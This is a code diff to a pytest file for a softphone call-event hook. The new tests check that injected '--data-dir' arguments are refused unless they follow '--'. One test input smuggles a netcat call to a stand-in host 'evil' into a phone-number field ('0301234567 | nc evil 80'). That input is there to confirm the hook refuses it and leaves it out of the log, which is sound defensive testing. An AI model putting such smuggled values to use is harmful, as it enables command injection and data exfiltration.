@@ -145,11 +145,40 @@ def test_what_the_softphone_appends_is_never_an_option(
 def test_the_appended_data_dir_is_refused_even_after_the_users_own(tmp_path: Path) -> None:
     mine = tmp_path / "mine"
     spawn = FakeSpawn()
-    argv = [f"--data-dir={mine}", "--event=ringing", f"--data-dir={tmp_path / 'evil'}"]
+    argv = [f"--data-dir={mine}", "--event=ringing", "--", f"--data-dir={tmp_path / 'evil'}"]
     assert hook.main(argv, {}, spawn) == 2
     assert spawn.calls == []
     assert "refused an event" in (mine / "logs" / "callnotes.log").read_text()
     assert not (tmp_path / "evil").exists()
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        # A user part "--data-dir=… 0301234567" that MicroSIP's command line splits in two.
+        ["--event=ringing", "--data-dir={evil}", "0301234567"],
+        ["--data-dir={evil}", "0301234567"],
+        # The user's own folder, written without "--": the hook cannot tell it is theirs.
+        ["--data-dir={own}", "--event=ringing", "0301234567"],
+    ],
+)
+def test_without_dashes_no_data_dir_is_taken(argv: list[str], tmp_path: Path, capsys) -> None:
+    own, evil = tmp_path / "own", tmp_path / "evil"
+    spawn = FakeSpawn()
+    argv = [arg.format(own=own, evil=evil) for arg in argv]
+    assert hook.main(argv, {"CALLNOTES_DATA_DIR": str(own)}, spawn) == 2
+    assert spawn.calls == []
+    assert "--data-dir must be followed by --" in capsys.readouterr().err
+    assert "refused an event" in (own / "logs" / "callnotes.log").read_text()
+    assert not evil.exists()
+
+
+def test_with_dashes_the_users_data_dir_is_taken(tmp_path: Path) -> None:
+    spawn = FakeSpawn()
+    argv = [f"--data-dir={tmp_path}", "--event=ringing", "--", "0301234567"]
+    assert hook.main(argv, {}, spawn) == 0
+    [(command, _env)] = spawn.calls
+    assert command[3] == f"--data-dir={tmp_path}"
 
 
 @pytest.mark.parametrize(
@@ -170,14 +199,16 @@ def test_more_than_one_number_or_link_is_refused(argv: list[str]) -> None:
     [["--event"], ["--event=ringing", "--event=ended", "1"], ["--format=c:", "1"], ["--name"]],
 )
 def test_bad_options_are_refused(argv, tmp_path: Path, capsys) -> None:
-    assert hook.main([f"--data-dir={tmp_path}", *argv], {}, FakeSpawn()) == 2
+    env = {"CALLNOTES_DATA_DIR": str(tmp_path)}
+    assert hook.main([f"--data-dir={tmp_path}", *argv], env, FakeSpawn()) == 2
     captured = capsys.readouterr()
     assert captured.out == ""
     assert captured.err.startswith("callnotes-event: ")
 
 
 def test_a_refusal_is_logged_without_the_input(tmp_path: Path, capsys) -> None:
-    assert hook.main([f"--data-dir={tmp_path}", "0301234567 | nc evil 80"], {}, FakeSpawn()) == 2
+    argv = [f"--data-dir={tmp_path}", "--", "0301234567 | nc evil 80"]
+    assert hook.main(argv, {}, FakeSpawn()) == 2
     log = (tmp_path / "logs" / "callnotes.log").read_text()
     assert "WARNING callnotes.hook: refused an event" in log
     assert "0301234567" not in log and "evil" not in log
